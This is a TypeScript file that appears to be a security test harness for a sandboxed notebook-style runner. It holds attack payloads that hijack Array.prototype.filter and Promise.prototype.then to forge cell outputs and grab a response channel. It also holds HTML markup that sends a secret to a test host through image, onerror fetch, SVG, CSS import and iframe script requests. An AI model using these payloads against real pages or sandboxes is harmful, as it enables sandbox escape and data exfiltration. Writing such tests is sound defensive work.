import type { Addresses, Control, Payload } from '../payload.ts';
import { byScript, inCell, type Script } from './sameText.ts';

/**
 * Takes hold of what sends a run's outputs, through a method of every list that a cell patches for a moment:
 * what `show` is given goes to the page as it is, whatever it is.
 */
export const forging = `let runs = []; const { filter } = Array.prototype;
Array.prototype.filter = function (...given) { if (this[0]?.reporter !== undefined) runs = this; return filter.apply(this, given); };
console.log('forging'); Array.prototype.filter = filter;
const { reporter } = runs.at(-1);
const show = (...outputs) => { for (const output of outputs) { reporter.show(() => [output]); reporter.flush(); } };`;

/** Takes hold of what answers the page's requests: it is handed to the promise of the cell that runs. */
export const answering = `const { then } = Promise.prototype;
const send = await new Promise((found) => { Promise.prototype.then = function (...given) {
	if (given.length === 1) { Promise.prototype.then = then; found(given[0]); }
	return then.apply(this, given); }; });`;

export const none = (why: string): Control => ({ kind: 'none', why });

export const inPage = none('asks for nothing by itself: it must not move the page to anything');

type Forged = { readonly script: Script; readonly control: Control };

export const message = (
	id: string,
	channel: string,
	{ script, control }: Forged,
	more: Partial<Payload> = {}
): Payload => ({
	id,
	channel,
	realm: 'message',
	cells: inCell(script),
	control,
	...more
});

/** An output that no honest cage makes: `outputs` is an expression, in which `secret` stands. */
export const forged = (id: string, channel: string, outputs: Script, control: Control): Payload =>
	message(id, channel, { script: (at) => `${forging}\nshow(${outputs(at)})`, control });

/** Markup that asks in several ways, as the body of a template literal: the secret is put in where it runs. */
export const markup = ({ http }: Addresses) =>
	`<img src=${http}x.svg?\${secret}><img src=x: onerror="fetch('${http}?\${secret}')"><svg><image href="${http}?\${secret}"></image><use href="${http}x.svg?\${secret}#a"></use></svg><style>@import '${http}x.css?\${secret}'</style><iframe srcdoc="<script src='${http}x.js?\${secret}'></script>"></iframe>`;

export const markupControl = byScript((at) => `document.body.innerHTML = \`${markup(at)}\``);
